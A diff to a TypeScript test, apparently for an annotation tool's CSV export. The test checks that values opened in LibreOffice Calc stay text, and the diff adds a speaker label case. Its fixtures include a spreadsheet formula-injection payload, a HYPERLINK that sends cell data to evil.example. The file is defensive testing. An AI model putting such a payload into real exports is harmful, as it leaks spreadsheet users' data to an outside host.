@@ -9,11 +9,13 @@ const openCodingWorkspace = useCodingWorkspaces();
 
 const hostileTitle = '=HYPERLINK("http://evil.example/?d="&A2,"Open report")';
 const hostileNote = '=1+1';
+/** Import only takes labels that start with a capital; a bundled or merged record might not. */
+const hostileSpeaker = '-2+3';
 
 describe('annotation CSV opened in LibreOffice Calc', () => {
   it('is text in every cell, where the same values written plainly become live formulas', async () => {
     const corpus = new TestCorpus();
-    corpus.setDocument('imported-1', hostileTitle, paragraphsToPassages('imported-1', ['@SUM(1+1) said the minutes; Vučić disagreed.'], ['R1']));
+    corpus.setDocument('imported-1', hostileTitle, paragraphsToPassages('imported-1', ['@SUM(1+1) said the minutes; Vučić disagreed.'], [hostileSpeaker]));
     const services = createCodingServices((await openCodingWorkspace()).workspace, corpus);
     await services.annotations.createFromQuote({ passageId: 'imported-1-p0', quote: '@SUM(1+1) said the minutes', note: hostileNote });
 
@@ -31,5 +33,7 @@ describe('annotation CSV opened in LibreOffice Calc', () => {
     expect(row[0]!.text).toBe(`'${hostileTitle}`);
     expect(row[2]!.text).toBe("'@SUM(1+1) said the minutes");
     expect(row[3]!.text).toBe(`'${hostileNote}`);
+    expect(header[8]!.text).toBe('speaker');
+    expect(row[8]!.text).toBe(`'${hostileSpeaker}`);
   });
 });
